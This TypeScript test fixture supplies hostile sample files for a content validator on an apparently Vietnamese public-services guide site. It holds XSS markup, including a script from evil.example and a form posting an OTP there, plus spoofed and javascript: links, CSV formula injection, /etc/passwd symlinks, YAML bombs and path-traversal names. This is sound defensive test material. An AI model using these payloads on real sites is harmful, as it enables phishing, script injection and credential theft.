// biome-ignore-all lint/suspicious/noTemplateCurlyInString: other people's templates are part of the collection.

import { Buffer } from 'node:buffer';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { csvLine } from '#read/csv.ts';
import { procedureColumns } from '#schemas/index.ts';
import { type Files, type Odd, textOf, tinyContent } from '../support/rule-cases.ts';

/** One hostile or careless file: where it stands, what is in it, and the line that must be named when it is known. */
export interface Attack {
  readonly name: string;
  readonly file: string;
  readonly content: string | Uint8Array | Odd;
  readonly line?: number;
}

/** What an attack would leave behind if it worked. */
export const marker = 'CAMTAYBIDANHDAU';

const guide = 'guides/khai-sinh.mdx';
const service = 'services/khai-sinh.mdx';
const event = 'life-events/co-con-nho.yaml';
const table = 'lists/2026-08-09-1868-qd-btp/procedures.csv';
const head = 'lists/2026-08-09-1868-qd-btp/list.yaml';
const tiny: Files = tinyContent;
const changed = (file: string, from: string, to: string): string => {
  const text = textOf(tiny, file);
  if (!text.includes(from)) throw new Error(`${file} has no “${from}”`);
  return text.replace(from, () => to);
};

/** Line 44 of the guide. */
const inBody = (name: string, body: string, line?: number): Attack => ({
  name,
  file: guide,
  content: changed(guide, 'Gửi nộp.', body),
  ...(line ? { line } : {}),
});
/** Line 7 of the guide. */
const inFront = (name: string, text: string, line?: number): Attack => ({
  name,
  file: guide,
  content: changed(guide, 'way: online\n', `way: online\n${text}\n`),
  ...(line ? { line } : {}),
});
const inTitle = (name: string, title: string): Attack => ({
  name,
  file: event,
  content: changed(event, 'title: Có con nhỏ', `title: ${title}`),
  line: 1,
});
const inCell = (name: string, cell: string): Attack => ({
  name,
  file: table,
  content: changed(table, '"Cấp thẻ căn cước, lần đầu"', csvLine([cell]).trimEnd()),
  line: 4,
});
const link = (address: string): Attack =>
  inBody(`a link to ${JSON.stringify(address.slice(0, 50))}`, `[tại đây](${address})`, 44);
const file = (name: string, path: string, content: Attack['content'], line = 1): Attack => ({
  name,
  file: path,
  content,
  line,
});

/** The file that an attack would leave. */
export const effect = join(tmpdir(), marker).replaceAll('\\', '/');
const write = `require('node:fs').writeFileSync('${effect}','x')`;

const code: readonly Attack[] = [
  ...[
    `import x from './x.js'`,
    `import './${marker}.mjs'`,
    `import x from '../../.env?raw'`,
    `export const x = 1`,
    `export { x } from './x.js'`,
    `export default 1`,
    `{1 + 1}`,
    `{20.000}`,
    '{}',
    '{ten}',
    `{process.env.HOME}`,
    `{process.getBuiltinModule('node:fs').writeFileSync('${effect}', 'x')}`,
    `{/* lời dặn */}`,
    `{/* a */ ${write}}`,
    '{`${1}`}',
    `{import.meta.glob('/**')}`,
    `{(() => { for (;;); })()}`,
    `{"x".repeat(5e8)}`,
    `{"a"`,
    `<Note a={${write}}>\n\nx\n\n</Note>`,
    `<Note {...x}>\n\nx\n\n</Note>`,
    `<Button label={1} />`,
  ].map((body) => inBody(`code: ${body.slice(0, 40)}`, body)),
  ...[`import x from 'x'`, `{1}`, `{\n1\n}`].map((body) =>
    inBody(`code in a note: ${body}`, `<Note>\n\n${body}\n\n</Note>`, 46),
  ),
  inBody('code in the title of a link', `[x](/tim/ "{1}")`, 44),
  inBody('code in a heading', '## {1}', 44),
  inBody('code in a list', '- {1}', 44),
];

const markup: readonly Attack[] = [
  ...[
    `<script>${marker}</script>`,
    `<script src="https://evil.example/x.js"></script>`,
    `<SCRIPT>x</SCRIPT>`,
    `<img src=x onerror="x()" />`,
    `<img src="x" onerror="x()" />`,
    `<iframe src="https://evil.example/"></iframe>`,
    `<form action="https://evil.example/"><input name="otp" /></form>`,
    `<base href="https://evil.example/" />`,
    `<meta http-equiv="refresh" content="0;url=https://evil.example/" />`,
    `<style>body { display: none }</style>`,
    `<p style="position:fixed">x</p>`,
    `<p set:html="<b>x</b>">x</p>`,
    `<Fragment set:html="<img onerror=x>" />`,
    `<Fragment>x</Fragment>`,
    `<>x</>`,
    `<svg onload="x()"></svg>`,
    `<a href="javascript:x()">x</a>`,
    `<object data="x"></object>`,
    `<Content />`,
    `<Astro.self />`,
    `<a:b />`,
    `<__proto__ />`,
    `<constructor />`,
    `<callout>x</callout>`,
    `<step title="x">x</step>`,
    `<!-- x -->`,
    `<!DOCTYPE html>`,
    `<![CDATA[x]]>`,
    `<?php x ?>`,
    `<Note client:load>\n\nx\n\n</Note>`,
    `<Note class="x">\n\nx\n\n</Note>`,
    `<Case of={x} is="a">\n\nx\n\n</Case>`,
    `<Case of="__proto__" is="a">\n\nx\n\n</Case>`,
    `<Case of="constructor" is="a">\n\nx\n\n</Case>`,
    `<Case of="a" is="b" onclick="x()">\n\nx\n\n</Case>`,
    `<Note`,
    `</Step>`,
    `<10.000đ`,
    `\\<script>x\\</script>`,
    `![ảnh](./anh.mjs)`,
    `![ảnh](https://evil.example/a.png)`,
    `![ảnh][a]\n\n[a]: ./anh.mjs`,
    `[x][y]\n\n[y]: javascript:x()`,
    `[y]: javascript:x()`,
    `<https://evil.example/>`,
    `<javascript:x()>`,
    `chữ[^1]\n\n[^1]: chân trang`,
    `| a | b |\n| - | - |\n| 1 | 2 |`,
    '```js\nx()\n```',
    '`x`',
    `> trích`,
    `***`,
    `# Tiêu đề`,
    `~~gạch~~`,
    `- [ ] việc`,
    `&lt;script&gt;`,
    `&#60;script&#62;`,
    `$$x$$ \\u003cscript>`,
  ].map((body) => inBody(`markup: ${body.slice(0, 40)}`, body)),
  ...[
    'title="<script>"',
    `title="</script><script>x()"`,
    `title='{x}'`,
    'title="a" onclick="x()"',
    'title="a" title="b"',
    'title="javascript:x()"',
    'title="${x}"',
  ].map(
    (attribute): Attack => ({
      name: `an attribute: ${attribute}`,
      file: guide,
      content: changed(guide, 'title="Nộp hồ sơ"', attribute),
      line: 42,
    }),
  ),
];

const links: readonly Attack[] = [
  'javascript:x()',
  'JaVaScRiPt:x()',
  'java&Tab;script:x()',
  'java&#9;script:x()',
  'vbscript:x',
  'data:text/html,x',
  'file:///etc/passwd',
  'blob:https://dichvucong.gov.vn/x',
  'http://dichvucong.gov.vn/',
  'HTTPS://dichvucong.gov.vn/',
  'https://DICHVUCONG.gov.vn/',
  'https://dichvucong.gov.vn:8443/',
  'https://dichvucong.gov.vn:443/',
  'https://dichvucong.gov.vn@evil.example/',
  'https://a:b@dichvucong.gov.vn/',
  'https://dichvucong.gov.vn.evil.example/',
  'https://dichvucong-gov.vn/',
  'https://dichvucong.gov.vn./',
  'https://dichvucong.gov.vn\\@evil.example/',
  'https://dichvucong.gov.vn/a/../b',
  'https://dichvucong.gov.vn/%2e%2e%2fb',
  'https://dichvucong.gov.vn/%00',
  'https://dichvucoпg.gov.vn/',
  'https://xn--dichvucog-p0g.gov.vn/',
  'https://dịchvucong.gov.vn/',
  'https:dichvucong.gov.vn',
  'https:///dichvucong.gov.vn/',
  '//evil.example/',
  '/\\evil.example/',
  '///evil.example/',
  '/dich-vu/../../etc/',
  '/./tim/',
  '/%2e%2e/',
  '/tim',
  'tim/',
  '?q=x',
  '/tim/?q=x',
  '#Chữ',
  'tel:0909123456',
  'tel:+84909123456',
  'tel:19000368,1',
  'sms:19000368',
  'mailto:a@evil.example',
  'intent://x#Intent;end',
  'zalo://x',
  'https://1.1.1.1/',
  'https://2130706433/',
  'https://[::1]/',
].map(link);

const words: readonly Attack[] = [
  inBody('words that name another host', '[evil.vn](https://dichvucong.gov.vn/)', 44),
  inBody('words that name a host and lead inside', '[dichvucong.gov.vn](/tim/)', 44),
  inBody('words that name another number', '[0909 123 456](tel:19000368)', 44),
  inBody('a bare address', 'Vào https://evil.example/x nhé.', 44),
  inBody('a bare www address', 'Vào www.evil.example nhé.', 44),
  inBody('a bare mail address', 'Viết cho a@evil.example nhé.', 44),
];

const front: readonly Attack[] = [
  ...[
    'layout: "data:text/javascript,x()"',
    'layout: ./x.mjs',
    'slug: trang-khac',
    'slug: _astro/x',
    'slug: ../../x',
    '__proto__: {x: 1}',
    'constructor: x',
    'prototype: x',
    'toString: x',
    'url: /x/',
    'draft: false',
    '<<: {title: x}',
    'note: &x a',
    'note: *x',
    'note: !!js/function "x"',
    'note: !!binary aGk=',
    'note: <script>',
    '? [a, b]\n: x',
    '? {a: 1}\n: x',
    'way: counter',
    '\tnote: x',
    'note: "\\u003cscript\\u003e"',
    '"layout": ./x.mjs',
    'summary: "x\\0y"',
  ].map((text) => inFront(`front matter: ${text.slice(0, 40)}`, text)),
  ...(['---{1+1}', '--- ', '---x', '+++', '...', '%YAML 1.1', '----'] as const).map((border) =>
    inFront(`a border: ${border}`, border, 7),
  ),
  file(
    'front matter of TOML',
    guide,
    textOf(tiny, guide).replaceAll('\n---\n', '\n+++\n').replace('---', '+++'),
  ),
  file('an empty line before the border', guide, `\n${textOf(tiny, guide)}`),
  file('a space before the border', guide, ` ${textOf(tiny, guide)}`),
  file('no front matter', guide, '# x\n'),
  file('front matter alone that never ends', guide, '---\ntitle: x\n', 3),
  ...[
    '0123',
    '0o17',
    '0x1F',
    '1_000',
    '1e1',
    '.inf',
    '~',
    'null',
    'yes',
    '2026-01-01',
    '1.0e+1',
    '+5',
    '5.5',
    '0b11',
    '.5',
  ].map(
    (order): Attack => ({
      name: `a number: ${order}`,
      file: event,
      content: changed(event, 'order: 1', `order: ${order}`),
      line: 3,
    }),
  ),
  ...[
    'yes',
    'No',
    'on',
    'OFF',
    '12:30:00',
    '.',
    '1_000',
    '0777',
    '0b101',
    '~',
    '2026',
    'true',
    '.nan',
    '!x y',
    '@x',
    '%x',
    '`x`',
  ].map((value) => inTitle(`a title: ${value}`, value)),
  {
    name: 'a code without quotes that loses its noughts',
    file: event,
    content: changed(event, '"2.000001"', '2.100000'),
    line: 8,
  },
];

const bomb = `a: &a [${'x,'.repeat(9)}x]\n${'bcdefghij'
  .split('')
  .map((name, nth) => `${name}: &${name} [${Array(9).fill(`*${'abcdefghi'[nth]}`).join(',')}]`)
  .join('\n')}\n`;

const yaml: readonly Attack[] = [
  file('an alias bomb', 'places.yaml', bomb),
  file('a merge bomb', 'site.yaml', `a: &a {x: 1}\n${'<<: *a\n'.repeat(100)}`, 2),
  file('two documents', event, `${textOf(tiny, event)}---\n${textOf(tiny, event)}`, 11),
  file('a directive', event, `%YAML 1.1\n---\n${textOf(tiny, event)}`),
  file('a thousand brackets', event, `title: ${'['.repeat(20_000)}`.slice(0, 9_000)),
  file('a thousand questions', event, '? '.repeat(4_000)),
  file('a thousand dashes', event, `${'- '.repeat(4_000)}x`),
  file(
    'a stair of keys',
    event,
    Array.from({ length: 300 }, (_, nth) => `${' '.repeat(nth)}a:`).join('\n'),
    61,
  ),
  file('20,000 keys', event, Array.from({ length: 20_000 }, (_, nth) => `k${nth}: 1`).join('\n')),
  file('50,000 times the same key', event, 'a: 1\n'.repeat(50_000), 2),
  file('a hundred thousand quotes', event, `a: ${'"'.repeat(9_000)}`),
  file('a file of another shape', 'glossary.yaml', 'x'),
  file('a list of nothing', 'site.yaml', '- a\n'),
  file('a null', 'gate.yaml', '~\n'),
  file(
    'prototype keys in a list',
    'places.yaml',
    changed('places.yaml', '- name: Tổng đài', '- __proto__: {x: 1}\n    name: Tổng đài'),
    3,
  ),
  file(
    'a host of the register with a capital',
    'site.yaml',
    changed('site.yaml', '- dichvucong.gov.vn', '- Dichvucong.gov.vn'),
    8,
  ),
  file(
    'a host of the register with a star',
    'site.yaml',
    changed('site.yaml', '- dichvucong.gov.vn', '- "*.gov.vn"'),
    8,
  ),
  file(
    'an address of the site that is a script',
    'site.yaml',
    changed('site.yaml', 'https://camtay.example/', 'javascript:x()'),
    2,
  ),
  file('a service that climbs', event, changed(event, '- khai-sinh', '- ../../x'), 6),
  file(
    'a lesson that climbs',
    'gate.yaml',
    changed('gate.yaml', 'lesson: dang-nhap', 'lesson: ../x'),
    7,
  ),
  file(
    'a most used service that climbs',
    'site.yaml',
    changed('site.yaml', '- khai-sinh', '- ../khai-sinh'),
    11,
  ),
  file('an unknown drawing', event, changed(event, 'icon: baby', 'icon: ../../x'), 4),
  file(
    'a foreign host in a list',
    head,
    changed(head, 'name: Công báo', 'name: Công báo\n    address: https://evil.example/'),
    16,
  ),
  file(
    'a script for an address',
    head,
    changed(head, 'name: Công báo', 'name: Công báo\n    address: javascript:x()'),
    16,
  ),
];

const cells: readonly Attack[] = [
  ...[
    '=cmd|"/c calc"!A1',
    '=1+1',
    '@SUM(A1)',
    '+1+1',
    '-2+3+cmd|x',
    '\t=1',
    '<script>x</script>',
    '<img src=x onerror=x()>',
    '</title><script>',
    '{{7*7}}',
    '${7*7}',
    '{% x %}',
    '#{7*7}',
    'javascript:x()',
    'data:text/html,x',
    '<!--',
    '<?xml?>',
    'a\0b',
    'a\u202Eb',
    'a\u200Bb',
    'a\rb',
  ].map((cell) => inCell(`a cell: ${JSON.stringify(cell)}`, cell)),
  file('a million cells', table, `${procedureColumns.join(',')}\n${','.repeat(1_000_000)}`, 2),
  file(
    'a million empty rows of two cells',
    table,
    `${procedureColumns.join(',')}\n${',\n'.repeat(1_000_000)}`,
    10_001,
  ),
  file('a million quotes', table, `${procedureColumns.join(',')}\n${'"'.repeat(9_999)}`, 2),
  file('a table of one endless line', table, 'x'.repeat(2_000_000)),
  file('a table of three megabytes and more', table, 'x\n'.repeat(1_600_000)),
  file('a table in UTF-16', table, Buffer.from(`\uFEFF${textOf(tiny, table)}`, 'utf16le')),
  file('a table of semicolons', table, textOf(tiny, table).replaceAll(',', ';')),
  file('a page for a table', table, '<html><script>x</script></html>'),
];

const bytes: readonly Attack[] = [
  file('a link to a secret', 'services/bi-mat.mdx', { linkTo: '/etc/passwd' }),
  file('a link to a folder', 'lists/2026-01-01-x', { linkTo: '/etc' }),
  file('a link in the place of a file that must be there', 'site.yaml', { linkTo: '/dev/zero' }),
  file('a link below the schemas', '.schemas/x.json', { linkTo: '/etc/passwd' }),
  file('a pipe', 'guides/ong.mdx', {}),
  file('a pipe in the place of a file that must be there', 'places.yaml', {}),
  file('a page in UTF-16', guide, Buffer.from(`\uFEFF${textOf(tiny, guide)}`, 'utf16le')),
  file('a page in UTF-16 without a mark', guide, Buffer.from(textOf(tiny, guide), 'utf16le')),
  file(
    'an overlong slash',
    guide,
    Buffer.concat([Buffer.from(textOf(tiny, guide)), Buffer.from([0xc0, 0xaf])]),
  ),
  file(
    'half a pair of surrogates',
    guide,
    Buffer.concat([Buffer.from(textOf(tiny, guide)), Buffer.from([0xed, 0xa0, 0x80])]),
  ),
  file('a page of nulls', guide, '\0'.repeat(60_000)),
  file('an empty page', guide, ''),
  file('an empty file of places', 'places.yaml', ''),
  file('a file of a byte order mark', 'places.yaml', '\uFEFF'),
  inBody('a null', 'a\0b', 44),
  inBody('two byte order marks', 'a\uFEFFb', 44),
  inBody('words that turn round', 'a\u202Eb', 44),
  inBody('words kept apart by an isolate', 'a\u2066b', 44),
  inBody('a carriage return alone', 'a\rb', 44),
  inBody('a line separator', 'a\u2028b', 44),
  inBody('a next line', 'a\u0085b', 44),
  inBody('letters of the invisible alphabet', `a${String.fromCodePoint(0xe0041)}b`, 44),
  inBody('loose marks', 'Tiếng Việt'.normalize('NFD'), 44),
  file('a page of 65 KB', guide, textOf(tiny, guide) + 'x\n'.repeat(33_000)),
  file('a program', 'services/x.js', 'x()'),
  file('a page in Markdown', 'services/x.md', '# x'),
  file('a page in HTML', 'services/x.html', '<p>x</p>'),
  file('a drawing', 'services/x.svg', '<svg onload="x()"/>'),
  file('an environment', '.env', 'A=1'),
  file('settings of npm', '.npmrc', 'x=1'),
  file('a module beside the content', 'x.mjs', 'x()'),
  file('capitals at the end', 'services/x.MDX', textOf(tiny, service)),
  file('two names that are one', 'services/Khai-sinh.mdx', textOf(tiny, service), 2),
  file('a reserved name', 'life-events/404.yaml', textOf(tiny, event)),
  file('a name of the device', 'life-events/nul.yaml', textOf(tiny, event)),
  file('a name with dots', 'life-events/a..b.yaml', textOf(tiny, event)),
  file('a name that begins with a dash', 'life-events/-rf.yaml', textOf(tiny, event)),
  file('a name that turns round', 'life-events/a\u202Eb.yaml', textOf(tiny, event)),
  file('a name with an entity', 'life-events/%2e%2e.yaml', textOf(tiny, event)),
];

const deep: readonly Attack[] = [
  ...Object.entries({
    quotations: '>'.repeat(20_000).slice(0, 3_900),
    'quotations over lines': '>\n>'.repeat(5_000),
    'brackets in code over lines': `{${'[\n'.repeat(19_000)}}`,
    'round brackets in code over lines': '{(\n'.repeat(15_000),
    'brackets in an attribute over lines': `<a b={${'[\n'.repeat(19_000)}}>`,
    'brackets in an export over lines': `export const a =\n${'[\n'.repeat(19_000)}`,
    'brackets in a spread over lines': `<a {...${'[\n'.repeat(19_000)}}>`,
    'twenty thousand headings of one name': '##\n'.repeat(20_000),
    'three thousand tags': '<a>'.repeat(3_000).slice(0, 3_900),
    'tags over lines': '<Note>\n\n'.repeat(3_000),
    'lists in lists': Array.from({ length: 200 }, (_, nth) => `${' '.repeat(nth * 2)}- x`).join(
      '\n',
    ),
    'lists on one line': `${'- '.repeat(1_500)}x`,
    'a long run of a tag': `<${'a'.repeat(3_900)}`,
    'a line of four thousand letters': 'x'.repeat(4_001),
    'links in links': `${'['.repeat(1_900)}x${']'.repeat(1_900)}`,
  }).map(([name, body]) => inBody(`deep: ${name}`, body)),
];

export const attacks: readonly Attack[] = [
  ...code,
  ...markup,
  ...links,
  ...words,
  ...front,
  ...yaml,
  ...cells,
  ...bytes,
  ...deep,
];

/** Bodies that look strange and are nothing but text or marks we know. */
export const honest: readonly string[] = [
  'Nếu phí < 10.000 đồng thì nộp tại quầy.',
  'Tuổi > 18 và < 60.',
  'Ông Nguyễn Văn Ẵm, bà Đặng Thị Ỷ, em Y Blơ.',
  'Bà H’Hen Niê đến phường.',
  'Giấy “Chứng sinh” của bé.',
  "Viết 'chữ in' vào ô.",
  'Hồ sơ gồm 2 bản (một bản chính; một bản sao).',
  'Tỷ lệ 50% & phí 8.000 đồng.',
  'Gửi **hồ sơ** và *chờ*.',
  'Xem [nơi hỗ trợ](/noi-ho-tro/).',
  'Gọi [1900 0368](tel:19000368).',
  'Gọi [tổng đài](tel:19000368).',
  'Vào [dichvucong.gov.vn](https://dichvucong.gov.vn/) nhé.',
  'Vào https://dichvucong.gov.vn/ nhé.',
  '- Một\n- Hai',
  '1. Một\n2. Hai',
  'Ghi số 1.000001 vào ô.',
  'Ký hiệu \\{ và \\} là ngoặc nhọn.',
  'Dấu \\* và dấu \\_ là dấu.',
  'Cười lên nhé 😀.',
  'Ngày 24/11/2026, lúc 8 giờ 30.',
  'Email của phường chưa có.',
  'Điền a/b hoặc c-d – e.',
  '<Note>\n\nNhớ ghi mã.\n\n</Note>',
  '<Warning>\n\nKhông đọc mã OTP cho ai.\n\n</Warning>',
  'Tệp có tên import hoặc export đều được.',
  'Số 5 + 3 = 8, và -2 là số âm.',
];
